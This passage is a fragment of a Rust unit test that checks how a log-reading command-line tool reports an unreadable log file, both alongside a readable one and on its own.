    let arguments = [
        "it".to_owned(),
        format!("--logs=log={broken}"),
        format!("--logs={}", flows.display()),
    ];
    let only = Only::try_parse_from(arguments).expect("arguments");
    let further = read(&detail, &only.further, Err(String::new())).expect("the other is read");
    let timeline = timeline(&detail, further, &beside);
    let json = serde_json::to_value(&timeline).expect("JSON");
    let failed = json["logs"][0]["failed"].as_str().unwrap_or_default();
    assert!(failed.contains("os error 5"), "{json:#}");
    assert_eq!(json["logs"][1]["shown"], 2, "{json:#}");
    assert!(
        timeline.told()[0].contains("not read: Input/output error"),
        "{:?}",
        timeline.told()
    );
    // Alone it is an error.
    let only = Only::try_parse_from(["it".to_owned(), format!("--logs=log={broken}")]).expect("arguments");
    let fault = read(&detail, &only.further, Err(String::new())).expect_err("nothing was read");
    assert_eq!(fault.exit, Exit::Failed, "{}", fault.render(false, false));
}
